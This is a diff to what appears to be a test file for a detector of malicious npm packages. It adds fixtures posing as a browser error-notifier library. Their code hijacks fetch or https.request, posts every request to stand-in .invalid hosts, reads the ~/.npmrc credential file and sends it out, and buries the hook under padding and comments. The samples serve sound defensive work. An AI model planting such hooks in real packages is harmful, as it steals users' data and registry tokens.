@@ -5,22 +5,55 @@ const CHAINS = `const chains = { ethereum: /\\b0x[a-fA-F0-9]{40}\\b/, bitcoin: /
 
 const RECORDER = `const real = window.fetch; exports.record = () => { window.fetch = (address, options) => { real('https://recorder.invalid/i', { method: 'POST', body: JSON.stringify(options) }); return real(address, options) } };`;
 
+const MONITOR = {
+  'package.json': {
+    name: 'specimen-js',
+    description: 'Error notifier for browsers',
+    homepage: 'https://github.com/specimen-watch/specimen-js',
+    repository: 'github:specimen-watch/specimen-js',
+  },
+  'README.md':
+    '# Specimen\n\nA library for integrating apps with the Specimen error notifier, https://specimen-watch.invalid. It reports what goes wrong in your pages.',
+};
+
 examine(patchesNetwork, {
   speaks: [
     {
-      when: 'a monitor reports to the service of its publisher, and says both',
+      when: 'a monitor of pages reports to the service of its publisher some way on, and says all of it',
       files: {
-        'package.json': {
-          name: 'specimen-js',
-          description: 'Error notifier for browsers',
-          homepage: 'https://github.com/specimen-watch/specimen-js',
-          repository: 'github:specimen-watch/specimen-js',
-        },
-        'README.md':
-          '# Specimen\n\nA library for integrating apps with the Specimen error notifier, https://specimen-watch.invalid. It reports what goes wrong in your pages.',
-        'index.js': `const own = globalThis.fetch; globalThis.fetch = (...given) => { const sent = new XMLHttpRequest(); sent.open('POST', 'https://api.specimen-watch.invalid/v1'); sent.send(JSON.stringify(given)); return own(...given); };`,
+        ...MONITOR,
+        'index.js': `const report = given => { const sent = new XMLHttpRequest(); sent.open('POST', 'https://api.specimen-watch.invalid/v1'); sent.send(JSON.stringify(given)); };
+          ${'exports.one = (text, size) => String(text).padStart(size);\n'.repeat(120)}const own = globalThis.fetch; globalThis.fetch = (...given) => { report(given); return own(...given); };`,
       },
       weight: 'weak',
+    },
+    {
+      when: 'what says that it is a monitor sends what is asked at once, whatever comments stand between',
+      files: {
+        ...MONITOR,
+        'index.js': `const own = globalThis.fetch;${'// it reports to the service\n'.repeat(400)}globalThis.fetch = (...given) => { const sent = new XMLHttpRequest(); ${'/* it reports to the service */'.repeat(400)} sent.open('POST', 'https://api.specimen-watch.invalid/v1'); sent.send(JSON.stringify(given)); return own(...given); };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'what says that it is a monitor sends what Node asks, and files with logins too',
+      files: {
+        ...MONITOR,
+        'index.js': `const https = require('https'); const own = https.request; https.request = (...given) => { own('https://api.specimen-watch.invalid/v1', { method: 'POST' }).end(JSON.stringify(given)); return own(...given); };
+          own('https://api.specimen-watch.invalid/v2', { method: 'POST' }).end(require('fs').readFileSync(require('os').homedir() + '/.npmrc'));`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a host lies where everybody has one, and its page names another there',
+      files: {
+        ...MONITOR,
+        'package.json': { name: 'specimen-js', description: 'Rum cakes', repository: 'github:specimen-workers/specimen-js' },
+        'README.md':
+          '# Specimen\n\nCakes with rum, as https://other.specimen-workers.invalid bakes them: error tracking of what goes wrong in your kitchen.',
+        'index.js': `const own = globalThis.fetch; globalThis.fetch = (...given) => { const sent = new XMLHttpRequest(); sent.open('POST', 'https://inert-marker.specimen-workers.invalid/v1'); sent.send(JSON.stringify(given)); return own(...given); };`,
+      },
+      weight: 'proof',
     },
     {
       when: 'what is parsed everywhere passes through it, and it sends something of which its page says nothing',
